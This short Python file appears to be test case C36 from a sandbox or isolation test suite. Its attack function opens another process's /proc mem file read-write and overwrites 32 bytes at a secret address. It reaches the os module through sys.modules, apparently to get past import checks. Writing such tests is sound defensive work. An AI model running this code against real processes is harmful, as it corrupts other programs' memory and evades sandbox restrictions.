# C36: overwrites another process's memory through its mem file
# Without layers: may succeed
import sys

os = sys.modules["os"]


def attack(facts):
    memory = os.open(f"/proc/{facts['victim']}/mem", os.O_RDWR)
    os.pwrite(memory, b"0" * 32, facts["secret_address"])
